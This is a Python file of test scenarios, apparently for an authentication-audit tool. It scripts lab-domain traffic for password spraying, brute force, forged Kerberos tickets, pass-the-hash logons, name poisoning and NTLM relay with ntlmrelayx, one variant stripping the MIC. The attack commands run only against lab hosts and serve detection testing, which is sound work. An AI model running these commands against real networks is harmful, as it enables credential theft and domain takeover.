"""The cases that an audit should see: guessing, roasting, trapping, relaying, and secrets where they do not belong."""

from cases import Case
from cases_http import ADA, APACHE, RAW, WEB, by_ntlm, http, raw_ntlm
from cases_kdc import AES, BIG, PREAUTH, SPRAYED, kdc, logon
from cases_ldap import ldap
from cases_smb import DC, FILES, smb

TRAP = "start trap dir python $RECIPE/servers/smb_trap.py 10.99.0.3"
POISON = "start poisoner dir python $RECIPE/servers/poisoner.py 10.99.0.3"
INTO_TRAP = "\"${ntlm[@]}\" -U 'NEGO\\ada%Engine-1843' -c exit"


def each(users: list[str], command: str) -> str:
    """The command for one user after the other."""
    return f"for user in {' '.join(users)}; do {command}; done"


def relay(
    name: str, title: str, purpose: str, victim: str, target: str, options: str = "", **rest
) -> Case:
    """ntlmrelayx at the desk between a victim at the web server's host and the domain controller."""
    log = "$LAB/desk/relay.log"
    script = (
        f"(cd $LAB/desk && exec ntlmrelayx.py -t {target} {options} --no-raw-server --no-wcf-server --no-rpc-server "
        f"--no-winrm-server -smb2support </dev/zero >{log} 2>&1) & relay=$!; sleep 8; on web {victim}; sleep 2; kill $relay; cat {log}"
    )
    rest = {
        "client": ["curl"],
        "server": ["impacket", "samba"],
        "secrets": ADA,
        "negotiations": 2,
    } | rest
    return Case(carrier="smb", name=name, title=title, purpose=purpose, script=script, **rest)


CASES = [
    smb(
        "password_spraying",
        "One password tried on twelve accounts by NTLM",
        "Twelve users, one guess each, from one host.",
        each(
            SPRAYED,
            f'share {DC} -I 10.99.0.1 "${{ntlm[@]}}" -U "NEGO\\\\$user%Summer-2026" -c exit',
        ),
        negotiations=12,
        secrets={},
        before=f"unlock {' '.join(SPRAYED)}",
    ),
    smb(
        "brute_force",
        "Many passwords tried on one account by NTLM",
        "Six guesses; after the third the account is locked.",
        "for guess in 1 2 3 4 5 6; do "
        f'share {DC} -I 10.99.0.1 "${{ntlm[@]}}" -U "NEGO\\\\blaise%Pascaline-$guess" -c exit; done',
        negotiations=6,
        secrets={},
        before="unlock blaise",
        after="unlock blaise",
    ),
    raw_ntlm(
        "password_spraying",
        "One password tried on twelve accounts over HTTP",
        "Twelve users, one guess each, from one host, by the NTLM scheme.",
        each(SPRAYED, f'web -4 --ntlm -u "NEGO\\\\$user:Summer-2026" {RAW}/ntlm/'),
        negotiations=12,
        secrets={},
    ),
    ldap(
        "password_spraying",
        "One password tried on twelve accounts by simple binds",
        "Twelve users, one guess each, on one connection.",
        "python $RECIPE/clients/ldap_rebind.py dc.nego.test "
        + " ".join(f"{user}@nego.test=Summer-2026" for user in SPRAYED),
        negotiations=12,
        secrets={},
        client=[],
        before=f"unlock {' '.join(SPRAYED)}",
        after=f"unlock {' '.join(SPRAYED)}",
    ),
    kdc(
        "forged_ticket",
        "A ticket-granting ticket of RC4 that the KDC did not issue",
        "The KDC seals its ticket-granting tickets with AES; then somebody brings one of RC4, made with krbtgt's stolen hash, "
        "and gets a service ticket for it.",
        "old_login ada; old kgetcred cifs/attic.old.test; KRB5CCNAME=FILE:$LAB/desk/ada.ccache old kgetcred cifs/attic.old.test",
        [
            *(f"AS ada krbtgt/OLD.TEST {result}" for result in (PREAUTH, AES)),
            *[f"TGS ada cifs/attic.old.test {AES}"] * 2,
        ],
        before="forged ada OLD.TEST $(old_hash)",
        client=["heimdal", "impacket"],
        server=["heimdal"],
    ),
    kdc(
        "forged_ticket_refused",
        "A forged ticket-granting ticket that the KDC does not take",
        "The same against Samba, which uses the strongest of krbtgt's keys only: KRB_AP_ERR_BADKEYVER, and MIT's library asks twice.",
        "login ada; kvno cifs/dc.nego.test; KRB5CCNAME=$LAB/desk/ada.ccache kvno ldap/dc.nego.test",
        [
            *logon("ada", PREAUTH, BIG, AES),
            f"TGS ada cifs/dc.nego.test {AES}",
            *["TGS - ldap/dc.nego.test KRB_AP_ERR_BADKEYVER"] * 2,
        ],
        before="forged ada NEGO.TEST $(nt_hash krbtgt)",
        client=["krb5-user", "mit-krb5", "impacket"],
    ),
    kdc(
        "logon_by_hash",
        "A logon with an NT hash from a host that has AES",
        "One user logs on with AES, then from the same host another one with RC4 alone: who does it has the hash and no password.",
        "login ada; cd $LAB/desk; getTGT.py -dc-ip 10.99.0.1 -hashes :$(nt_hash grace) NEGO.TEST/grace",
        [*logon("ada", PREAUTH, BIG, AES), *logon("grace", PREAUTH, AES)],
        client=["krb5-user", "mit-krb5", "impacket"],
        secrets=ADA | {"grace": "Nanosecond-11"},
    ),
    smb(
        "service_account_ntlm",
        "A service account by NTLM",
        "An account that owns service names logs on by NTLM.",
        f"share {DC} \"${{ntlm[@]}}\" -U 'NEGO\\svc-web%Service-svc-web-1' -c ls",
        secrets={"svc-web": "Service-svc-web-1"},
    ),
    smb(
        "fixed_challenge",
        "The same challenge for everybody",
        "A trap answers two connections with the challenge 1122334455667788.",
        f"share //10.99.0.3/PUB {INTO_TRAP}; share //10.99.0.3/PUB {INTO_TRAP}",
        before=f"{TRAP}; sleep 3",
        after="end dir trap",
        negotiations=2,
        server=["impacket"],
    ),
    smb(
        "poisoned_name",
        "A neighbour answers for a name that DNS does not know",
        "mDNS, LLMNR and NetBIOS questions for a server with a mistyped name are answered by a trap, and NTLM goes there.",
        f"python $RECIPE/clients/ask_names.py fileserv; share //fileserv/PUB --option='name resolve order=host bcast' {INTO_TRAP}",
        before=f"rm -f $LAB/desk/private/gencache.tdb; {TRAP}; {POISON}; sleep 3",
        after="end dir trap poisoner; dc_with",
        server=["impacket"],
    ),
    relay(
        "relayed_http",
        "NTLM relayed from HTTP to SMB",
        "A web server asks for NTLM and hands the client's messages on to a domain controller's SMB: two hops, the same "
        "challenge and the same answer.",
        "curl -4 -sS -o /dev/null --ntlm -u 'NEGO\\ada:Engine-1843' http://10.99.0.20/",
        "smb://10.99.0.1",
        "--no-smb-server",
    ),
    relay(
        "relayed_smb",
        "NTLM relayed from SMB to SMB",
        "A file server hands the client's NTLM messages on to another that does not demand signatures.",
        "smbclient -s $conf //10.99.0.20/PUB --use-kerberos=off -U 'FILES\\ada%Engine-1843' -c exit",
        "smb://10.99.0.4",
        "--no-http-server",
        client=["smbclient"],
    ),
    relay(
        "relayed_without_mic",
        "NTLM relayed with its MIC taken out",
        "The relay asks for no signatures in the client's stead and drops the MIC that the response promises.",
        "smbclient -s $conf //10.99.0.20/PUB --use-kerberos=off -U 'FILES\\ada%Engine-1843' -c exit",
        "smb://10.99.0.4",
        "--no-http-server --remove-mic",
        client=["smbclient"],
    ),
    raw_ntlm(
        "ntlm_channel_bindings",
        "NTLM with channel bindings",
        "The answer holds the hash of a TLS channel, though it goes over clear HTTP.",
        "python $RECIPE/clients/http_raw.py web.nego.test:8080 /nego/ Negotiate 'NEGO\\ada' Engine-1843 bound",
    ),
    ldap(
        "openldap_plain",
        "SASL PLAIN without TLS",
        "Name and password in the clear inside a SASL bind.",
        f"ldapsearch -O none -Y PLAIN -U ada -w Engine-1843 -H ldap://dir.nego.test -b o=nego uid=grace uid",
        client=["ldapsearch", "cyrus-sasl"],
        server=["openldap"],
    ),
    http(
        "tls_names",
        "A logon inside TLS, with names around it",
        "DNS and the ClientHello tell the server's name; what is said inside cannot be read.",
        "curl -k -sS -o /dev/null --negotiate -u : https://web.nego.test:4433/",
        before="login ada; start tls web openssl s_server -quiet -port 4433 -cert $LAB/dir/tls.crt -key $LAB/dir/tls.key -www; "
        "sleep 1",
        after="end web tls",
        server=["openssl"],
        negotiations=0,
    ),
    smb(
        "mixed",
        "A busy second",
        "One desk: pages and shares by Kerberos, a share by an alias and a page by an address that fall back to NTLM, a "
        "password mistyped, a guest, and a simple bind in the clear.",
        f"me NEGO:ada:Engine-1843; login ada; web --negotiate -u : {WEB}/nego/; web --negotiate -u : http://10.99.0.2/nego/; "
        f'share {DC} "${{kerberos[@]}}" -c exit; share //alias.nego.test/pub --use-kerberos=desired '
        "-U 'NEGO.TEST\\ada%Engine-1843' -c exit; "
        f"share {DC} \"${{ntlm[@]}}\" -U 'NEGO\\grace%not-hers' -c exit; share {FILES} \"${{ntlm[@]}}\" -U 'visitor%x' -c exit; "
        f"ldapsearch -x -D grace@nego.test -w Nanosecond-11 -H ldap://dc.nego.test -b DC=nego,DC=test -s base objectClass",
        client=["curl", "smbclient", "ldapsearch", "mit-krb5", "gss-ntlmssp"],
        server=["samba", *APACHE, "gss-ntlmssp"],
        negotiations=7,
        secrets=ADA | {"grace": "Nanosecond-11"},
    ),
    http(
        "tls_kerberos",
        "Negotiate, Kerberos, inside TLS",
        "The same as in the clear; the key log is in the capture.",
        "curl -4 -k -sS -o /dev/null --negotiate -u : https://web.nego.test/krb/",
        before="login ada; kvno HTTP/web.nego.test",
        tls=True,
    ),
    by_ntlm(
        "tls_ntlm_no_bindings",
        "NTLM inside TLS without channel bindings",
        "SPNEGO and NTLM inside TLS; the answer says nothing of the channel, so it could be relayed.",
        "NEGO:ada:Engine-1843",
        "curl -4 -k -sS -o /dev/null --negotiate -u : https://web.nego.test/nego/",
        tls=True,
    ),
    http(
        "tls_ntlm_bound",
        "NTLM inside TLS with channel bindings",
        "The answer holds the hash of the server's certificate (tls-server-end-point).",
        "python $RECIPE/clients/http_raw.py web.nego.test:443 /nego/ Negotiate 'NEGO\\ada' Engine-1843 tls bound",
        client=["pyspnego"],
        tls=True,
    ),
    http(
        "tls_basic",
        "Basic inside TLS",
        "Name and password, but not in the clear.",
        "curl -4 -k -sS -o /dev/null -u ada:Engine-1843 https://web.nego.test/basic/",
        client=["curl"],
        server=["apache"],
        tls=True,
    ),
]
